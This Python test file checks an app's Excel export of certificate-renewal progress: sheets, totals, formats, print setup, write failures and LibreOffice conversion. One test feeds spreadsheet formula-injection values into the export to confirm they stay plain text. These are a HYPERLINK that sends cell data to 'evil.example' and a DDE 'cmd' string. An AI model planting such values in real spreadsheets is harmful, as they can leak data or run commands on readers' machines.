"""The supervisors' progress workbook (issue 13): what each sheet holds, read back with openpyxl and,
where LibreOffice is installed, opened by it (CSV of every sheet, PDF pages landscape A4).

One demo workspace and one workbook per module: the real importer, a week of snapshots, a local
edit (so 本地未同步 counts), then `ctx.progress.export_workbook`.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import errno
import os
import re
import shutil
import signal
import sqlite3
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from desktop_app import demo
from desktop_app.errors import KnownError
from desktop_app.reports import progress_workbook as pw
from desktop_app.reports.progress_cells import ALL_UNITS, DEMO_NOTE, FOOTER, NO_EMPLOYER, NOT_SYNCED, figure_columns
from desktop_app.reports.progress_sheets import (
    ENTERPRISE_HEADER_ROW,
    ENTERPRISE_HEADERS,
    NO_ENTERPRISES,
    NO_TREND,
    TREND_HEADER_ROW,
    TREND_HEADERS,
    enterprise_values,
)
from desktop_app.services.context import Actor, WorkspaceContext
from desktop_app.services.progress.figures import (
    FIGURES,
    Contact,
    EnterpriseRow,
    Figures,
    ProgressReport,
    ProgressTable,
    kind_label,
)

TODAY = dt.date(2026, 12, 2)
SNAPSHOT_DAYS = 6
OPERATOR = "测试员"
SOFFICE_TIMEOUT = 120
WIDTH = 2 + len(FIGURES) + 1  # unit, kind, the counts, 换发率
needs_soffice = pytest.mark.skipif(shutil.which("soffice") is None,
                                   reason="LibreOffice (soffice) is not installed (libreoffice-calc-nogui)")


@dataclass
class Book:
    ctx: WorkspaceContext
    path: Path
    report: ProgressReport
    wb: Workbook

    def sheet(self, name: str) -> Worksheet:
        ws = self.wb[name]
        assert isinstance(ws, Worksheet)
        return ws


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Book]:
    folder = tmp_path_factory.mktemp("progress_workbook")
    source = folder / "demo.jsonl"
    demo.write_jsonl(source, 800, seed=7, photo_fraction=0.2, today=TODAY)
    ctx = WorkspaceContext.open(folder / "ws", actor=Actor(OPERATOR), today=TODAY)
    assert not ctx.workspace.import_jsonl(source).rejected
    person_id = ctx.edits.person_id_for(_first_holder(ctx))
    assert person_id is not None
    ctx.edits.save_person(person_id, ctx.edits.load_form(person_id).version, {"phone": "13900000001"}, "测试")
    for back in range(SNAPSHOT_DAYS - 1, -1, -1):
        ctx.progress.take_snapshot(TODAY - dt.timedelta(days=back))
    path = folder / "进度报表.xlsx"
    report = ctx.progress.export_workbook(path)
    yield Book(ctx, path, report, openpyxl.load_workbook(path))
    ctx.close()


def _first_holder(ctx: WorkspaceContext) -> str:
    with sqlite3.connect(ctx.cache.path) as conn:
        return conn.execute("SELECT id_number FROM persons ORDER BY id LIMIT 1").fetchone()[0]


def _values(ws: Worksheet, row: int, last_column: int | None = None) -> list[object]:
    return [c.value for c in ws[row][: last_column or ws.max_column]]


def _expected_row(unit: str, kind: str, figures: Figures) -> list[object]:
    return [unit, kind, *pw.figure_values(figures)]


def _summary_rows(ws: Worksheet) -> dict[str, list[tuple[int, list[object]]]]:
    """The sheet's figure rows below the header, by block: rows, the units' 小计, kinds, the 合计."""
    blocks: dict[str, list[tuple[int, list[object]]]] = {"rows": [], pw.UNIT_BLOCK: [], pw.KIND_BLOCK: [],
                                                         "total": []}
    current = "rows"
    for number in range(pw.FIRST_DATA_ROW, ws.max_row + 1):
        values = _values(ws, number, WIDTH)
        if values[0] in (pw.UNIT_BLOCK, pw.KIND_BLOCK):
            current = str(values[0])
        elif values[0] == pw.TOTAL_LABEL:
            blocks["total"].append((number, values))
        elif any(v is not None for v in values):
            blocks[current].append((number, values))
    return blocks


def _approx_rows(rows: list[list[object]]) -> list[list[object]]:
    return [[pytest.approx(v) if isinstance(v, float) else v for v in row] for row in rows]


# --- 进度汇总 ---------------------------------------------------------------------------------------


def test_the_sheets_in_order(book: Book) -> None:
    assert book.wb.sheetnames == ["进度汇总", "趋势", "待补充企业", "说明"] == list(pw.SHEETS)


def test_the_summary_header(book: Book) -> None:
    ws = book.sheet(pw.SUMMARY_SHEET)
    assert _values(ws, pw.HEADER_ROW) == [
        "发证单位", "证书类别", "证书总数", "有效", "已换新版", "待换发", "A证待补充", "缺职务", "缺技术职称", "缺照片",
        "90天内到期", "已失效", "暂扣", "撤销", "注销", "本地未同步", "换发率"]
    assert str(ws["A1"].value).startswith(f"证书换发进度汇总（截至 {TODAY}")
    assert ALL_UNITS in str(ws["A2"].value) and OPERATOR in str(ws["A2"].value)


def test_every_row_subtotal_and_the_total_equal_the_table(book: Book) -> None:
    table, rules = book.report.table, book.ctx.rules
    blocks = _summary_rows(book.sheet(pw.SUMMARY_SHEET))
    assert [v for _, v in blocks["rows"]] == _approx_rows(
        [_expected_row(r.unit or "", kind_label(r.kind, rules), r.figures) for r in table.rows])
    assert [v for _, v in blocks[pw.UNIT_BLOCK]] == _approx_rows(
        [_expected_row(r.unit or "", pw.SUBTOTAL_LABEL, r.figures) for r in table.unit_totals])
    assert [v for _, v in blocks[pw.KIND_BLOCK]] == _approx_rows(
        [_expected_row(ALL_UNITS, kind_label(r.kind, rules), r.figures) for r in table.kind_totals])
    assert [v for _, v in blocks["total"]] == _approx_rows(
        [_expected_row(pw.TOTAL_LABEL, pw.ALL_KINDS, table.overall)])
    assert len(table.units) > 1 and table.overall.unsynced >= 1 and table.overall.total > 0  # a real test
    number, _ = blocks["total"][0]
    ws = book.sheet(pw.SUMMARY_SHEET)
    assert number == ws.max_row and all(c.font.b for c in ws[number])


def test_number_formats(book: Book) -> None:
    ws = book.sheet(pw.SUMMARY_SHEET)
    blocks = _summary_rows(ws)
    for block in blocks.values():
        for number, _ in block:
            formats = [c.number_format for c in ws[number][2:WIDTH]]
            assert formats == ["#,##0"] * len(FIGURES) + ["0.0%"], number
    empty = [n for n, values in blocks["rows"] if values[-1] is None]  # nothing in force: 换发率 is blank
    assert all(ws.cell(n, 4).value == 0 for n in empty)


def test_frozen_header_table_and_data_bar(book: Book) -> None:
    ws = book.sheet(pw.SUMMARY_SHEET)
    rows = len(book.report.table.rows)
    assert ws.freeze_panes == f"C{pw.FIRST_DATA_ROW}"
    table = ws.tables[pw.TABLE_NAME]
    assert table.ref == f"A{pw.HEADER_ROW}:Q{pw.HEADER_ROW + rows}"  # the unit × kind rows, no totals
    assert table.autoFilter is not None and table.autoFilter.ref == table.ref
    assert table.column_names == list(pw.summary_headers(book.ctx.rules))
    assert table.tableStyleInfo is not None
    formats = {str(cf.sqref): [rule.type for rule in cf.rules] for cf in ws.conditional_formatting}
    assert formats == {f"Q{pw.FIRST_DATA_ROW}:Q{ws.max_row}": ["dataBar"]}


def test_columns_are_wide_enough_for_their_text(book: Book) -> None:
    ws = book.sheet(pw.SUMMARY_SHEET)
    longest_unit = max(book.report.table.units, key=len)
    assert ws.column_dimensions["A"].width >= 2 * len(longest_unit)
    longest_kind = max((kind_label(k, book.ctx.rules) for k in book.report.table.kinds), key=len)
    assert ws.column_dimensions["B"].width >= 1.8 * len(longest_kind)
    for column, header in zip("CDEFGHIJKLMNOPQ", pw.summary_headers(book.ctx.rules)[2:], strict=True):
        assert ws.column_dimensions[column].width >= len(header), header  # headers fit on one line


@pytest.mark.parametrize("sheet", pw.SHEETS)
def test_every_sheet_prints_landscape_a4_one_page_wide(book: Book, sheet: str) -> None:
    ws = book.sheet(sheet)
    header = {pw.SUMMARY_SHEET: pw.HEADER_ROW, "趋势": TREND_HEADER_ROW, "待补充企业": ENTERPRISE_HEADER_ROW,
              "说明": 2}[sheet]
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert (int(ws.page_setup.fitToWidth), int(ws.page_setup.fitToHeight)) == (1, 0)
    assert ws.print_title_rows == f"$1:${header}"
    assert ws.oddFooter.center.text == FOOTER == "第 &P 页，共 &N 页"


# --- 趋势 -------------------------------------------------------------------------------------------


def test_the_trend_sheet(book: Book) -> None:
    ws = book.sheet("趋势")
    points = book.report.trend
    assert len(points) == SNAPSHOT_DAYS
    assert _values(ws, TREND_HEADER_ROW, len(TREND_HEADERS)) == list(TREND_HEADERS)
    got = [_values(ws, TREND_HEADER_ROW + 1 + i, len(TREND_HEADERS)) for i in range(len(points))]
    assert got == _approx_rows([[dt.datetime.combine(p.day, dt.time()), p.in_force, p.new_format, p.pending,
                                 p.a_missing_info, p.converted] for p in points])
    assert ws.cell(TREND_HEADER_ROW + 1, 6).number_format == "0.0%"
    assert len(ws._charts) == 1 and type(ws._charts[0]).__name__ == "LineChart"
    pace = {ws.cell(r, 8).value: ws.cell(r, 9).value for r in range(TREND_HEADER_ROW + 1, TREND_HEADER_ROW + 7)}
    assert set(pace) == {"待换发证书", "目标日期", "剩余天数", "每日需换发", "近期每日换发", "预计完成日期"}
    assert pace["待换发证书"] == book.report.pace.pending == book.report.table.overall.pending
    assert pace["目标日期"] == "未设定"


def test_an_empty_or_one_day_trend_is_still_a_sheet(book: Book, tmp_path: Path) -> None:
    target = dt.date(2027, 6, 30)
    report = dataclasses.replace(book.report, trend=(), pace=dataclasses.replace(
        book.report.pace, target=target, days_left=(target - TODAY).days, needed_per_day=1.5))
    pw.write_workbook(report, tmp_path / "empty.xlsx", book.ctx.rules)
    ws = openpyxl.load_workbook(tmp_path / "empty.xlsx")["趋势"]
    assert ws.cell(TREND_HEADER_ROW + 1, 1).value == NO_TREND and not ws._charts
    pace = {ws.cell(r, 8).value: ws.cell(r, 9).value for r in range(TREND_HEADER_ROW + 1, TREND_HEADER_ROW + 7)}
    assert pace["目标日期"] == dt.datetime(2027, 6, 30) and pace["每日需换发"] == 1.5
    pw.write_workbook(dataclasses.replace(book.report, trend=book.report.trend[-1:]), tmp_path / "one.xlsx",
                      book.ctx.rules)
    ws = openpyxl.load_workbook(tmp_path / "one.xlsx")["趋势"]
    assert ws.cell(TREND_HEADER_ROW + 1, 2).value == book.report.trend[-1].in_force and not ws._charts


def test_an_empty_workspace_still_gives_a_workbook(book: Book, tmp_path: Path) -> None:
    empty = dataclasses.replace(book.report, table=ProgressTable(TODAY, (), (), (), Figures()), enterprises=(),
                                trend=())
    pw.write_workbook(empty, tmp_path / "empty.xlsx", book.ctx.rules)
    wb = openpyxl.load_workbook(tmp_path / "empty.xlsx")
    summary = wb[pw.SUMMARY_SHEET]
    assert not summary.tables and _summary_rows(summary)["total"][0][1] == _approx_rows(
        [_expected_row(pw.TOTAL_LABEL, pw.ALL_KINDS, Figures())])[0]
    assert wb["待补充企业"].cell(ENTERPRISE_HEADER_ROW + 1, 1).value == NO_ENTERPRISES


# --- 待补充企业 and 说明 ---------------------------------------------------------------------------------


def _enterprise_lines(ws: Worksheet) -> list[tuple[object, ...]]:
    return [tuple(row) for row in ws.iter_rows(min_row=ENTERPRISE_HEADER_ROW + 1, max_col=6, values_only=True)]


def test_the_call_list_matches_the_service(book: Book) -> None:
    ws = book.sheet("待补充企业")
    expected = [enterprise_values(r) for r in book.ctx.progress.enterprises()]
    assert _values(ws, ENTERPRISE_HEADER_ROW) == list(ENTERPRISE_HEADERS)
    assert _enterprise_lines(ws) == expected and len(expected) > 10
    assert any(line[5] for line in expected)  # someone to call
    assert ws.freeze_panes == f"C{ENTERPRISE_HEADER_ROW + 1}"
    assert ws.auto_filter.ref == f"A{ENTERPRISE_HEADER_ROW}:F{ENTERPRISE_HEADER_ROW + len(expected)}"
    assert ws.cell(ENTERPRISE_HEADER_ROW + 1, 5).number_format == "#,##0"


def test_hostile_names_stay_text_and_no_employer_is_named(book: Book, tmp_path: Path) -> None:
    """Records are anyone's typing: a name like a formula stays a string, XML's specials survive."""
    names = ['=HYPERLINK("http://evil.example/?id="&B2,"点击")', "<b>甲&乙</b>", " 前后有空格 ", "控制\x07字符"]
    contacts = (Contact("=cmd|' /C calc'!A0", None), Contact("张三", "13800000000"))
    rows = tuple(EnterpriseRow(book.report.table.units[0], i, name, "=1+1", 1, 2, contacts)
                 for i, name in enumerate(names))
    nobody = EnterpriseRow(book.report.table.units[0], None, None, None, 0, 3, ())
    pw.write_workbook(dataclasses.replace(book.report, enterprises=(*rows, nobody)), tmp_path / "hostile.xlsx",
                      book.ctx.rules)
    ws = openpyxl.load_workbook(tmp_path / "hostile.xlsx")["待补充企业"]
    lines = _enterprise_lines(ws)
    assert [line[1] for line in lines] == [*names[:3], "控制字符", NO_EMPLOYER]
    assert lines[-1] == (nobody.unit, NO_EMPLOYER, None, 0, 3, None)
    assert {ws.cell(r, c).data_type for r in range(3, 7) for c in (1, 2, 3, 6)} == {"s"}
    assert ws.cell(3, 6).value == "=cmd|' /C calc'!A0；张三 13800000000"


def test_the_notes_sheet(book: Book) -> None:
    ws = book.sheet("说明")
    about = {row[0]: row[1] for row in ws.iter_rows(min_row=3, max_col=2, values_only=True) if row[0]}
    assert about["截至日期"] == dt.datetime.combine(TODAY, dt.time())
    assert about["最近同步"] == NOT_SYNCED and about["制表人"] == OPERATOR
    assert about["制表时间"] == book.report.generated_at and about["统计范围"] == ALL_UNITS
    assert "数据" not in about  # not a demo workspace
    for column in figure_columns(book.ctx.rules):
        assert about[column.header] == column.meaning
    assert about["有效"] == "状态有效且有效期至不早于截至日期" and about["换发率"].startswith("已换新版 ÷ 有效")


def test_one_unit_demo_report(book: Book, tmp_path: Path) -> None:
    """Limited to one unit: no per-kind block (it would repeat the rows); a demo says so."""
    unit = book.report.table.units[0]
    report = dataclasses.replace(book.ctx.progress.report(unit=unit), demo=True,
                                 last_sync_at=dt.datetime(2026, 12, 1, 18, 30))
    pw.write_workbook(report, tmp_path / "unit.xlsx", book.ctx.rules)
    wb = openpyxl.load_workbook(tmp_path / "unit.xlsx")
    blocks = _summary_rows(wb[pw.SUMMARY_SHEET])
    assert not blocks[pw.KIND_BLOCK] and len(blocks[pw.UNIT_BLOCK]) == 1
    assert {v[0] for _, v in blocks["rows"]} == {unit} and DEMO_NOTE in str(wb[pw.SUMMARY_SHEET]["A2"].value)
    about = {row[0]: row[1] for row in wb["说明"].iter_rows(min_row=3, max_col=2, values_only=True) if row[0]}
    assert about["统计范围"] == unit and about["数据"] == DEMO_NOTE
    assert about["最近同步"] == dt.datetime(2026, 12, 1, 18, 30)


# --- failures to write ------------------------------------------------------------------------------


def test_a_folder_in_the_way_is_a_known_error_and_leaves_nothing(book: Book, tmp_path: Path) -> None:
    target = tmp_path / "报表.xlsx"
    target.mkdir()
    with pytest.raises(KnownError) as caught:
        book.ctx.progress.export_workbook(target)
    assert caught.value.code == "progress.write_failed" and str(target) in str(caught.value)
    assert [p.name for p in tmp_path.iterdir()] == ["报表.xlsx"] and not any(target.iterdir())


def test_an_impossible_folder_is_a_known_error(book: Book, tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    with pytest.raises(KnownError) as caught:
        book.ctx.progress.export_workbook(tmp_path / "a-file" / "sub" / "报表.xlsx")
    assert caught.value.code == "progress.write_failed"
    assert [p.name for p in tmp_path.iterdir()] == ["a-file"]


def test_a_full_disk_keeps_the_old_file(book: Book, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "报表.xlsx"
    target.write_bytes(b"the old report")

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(KnownError) as caught:
        pw.write_workbook(book.report, target, book.ctx.rules)
    assert os.strerror(errno.ENOSPC) in str(caught.value)
    assert target.read_bytes() == b"the old report" and [p.name for p in tmp_path.iterdir()] == ["报表.xlsx"]


# --- LibreOffice ------------------------------------------------------------------------------------


def _soffice(book: Book, out: Path, target: str) -> None:
    profile = out / "lo-profile"  # its own profile: no clash with a LibreOffice the user has open
    command = ["soffice", "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
               "--convert-to", target, "--outdir", str(out), str(book.path)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True) as proc:
        try:
            _, err = proc.communicate(timeout=SOFFICE_TIMEOUT)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)  # soffice.bin runs under oosplash: end the whole group
            proc.communicate()
            raise
    assert proc.returncode == 0, err.decode(errors="replace")


@pytest.fixture(scope="module")
def converted(book: Book, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("libreoffice")
    # Every sheet as <name>-<sheet>.csv (LibreOffice ≥ 7.2), UTF-8, values as stored
    _soffice(book, out, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1')
    _soffice(book, out, "pdf")
    return out


def _csv(converted: Path, book: Book, sheet: str) -> list[list[str]]:
    path = converted / f"{book.path.stem}-{sheet}.csv"
    if not path.exists():  # before LibreOffice 7.2 only the first sheet, as <name>.csv
        assert sheet == pw.SUMMARY_SHEET, "this LibreOffice exports only the first sheet"
        path = converted / f"{book.path.stem}.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@needs_soffice
def test_libreoffice_reads_the_summary_counts(book: Book, converted: Path) -> None:
    lines = _csv(converted, book, pw.SUMMARY_SHEET)
    table, counts = book.report.table, len(FIGURES)
    assert lines[pw.HEADER_ROW - 1][:2] == ["发证单位", "证书类别"]
    got = [[int(v) for v in line[2:2 + counts]]
           for line in lines[pw.HEADER_ROW:pw.HEADER_ROW + len(table.rows)]]
    assert got == [pw.figure_values(r.figures)[:counts] for r in table.rows]
    total = next(line for line in lines if line[0] == pw.TOTAL_LABEL)
    assert [int(v) for v in total[2:2 + counts]] == pw.figure_values(table.overall)[:counts]
    assert float(total[2 + counts].rstrip("%")) / 100 == pytest.approx(table.overall.converted)


@needs_soffice
def test_libreoffice_reads_every_sheet(book: Book, converted: Path) -> None:
    if not (converted / f"{book.path.stem}-趋势.csv").exists():
        pytest.skip("this LibreOffice exports only the first sheet to CSV")
    calls = _csv(converted, book, "待补充企业")[ENTERPRISE_HEADER_ROW:]
    assert len(calls) == len(book.report.enterprises)
    assert [line[1] for line in calls] == [enterprise_values(r)[1] for r in book.report.enterprises]
    trend = _csv(converted, book, "趋势")[TREND_HEADER_ROW:TREND_HEADER_ROW + SNAPSHOT_DAYS]
    assert [int(line[3]) for line in trend] == [p.pending for p in book.report.trend]
    assert any(line[:2] == ["制表人", OPERATOR] for line in _csv(converted, book, "说明"))


@needs_soffice
def test_libreoffice_prints_landscape_a4_pages(book: Book, converted: Path) -> None:
    pdf = converted / f"{book.path.stem}.pdf"
    pages = int(re.search(r"^Pages:\s+(\d+)", _pdfinfo(pdf), re.M).group(1))  # type: ignore[union-attr]
    assert pages >= len(pw.SHEETS)
    sizes = re.findall(r"^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+) pts", _pdfinfo(pdf, "-f", "1", "-l", str(pages)), re.M)
    assert len(sizes) == pages
    for width, height in sizes:  # A4 landscape: 842 × 595 pt
        assert abs(float(width) - 841.9) < 2 and abs(float(height) - 595.3) < 2


def _pdfinfo(pdf: Path, *args: str) -> str:
    return subprocess.run(["pdfinfo", *args, str(pdf)], check=True, capture_output=True, text=True,
                          timeout=60).stdout
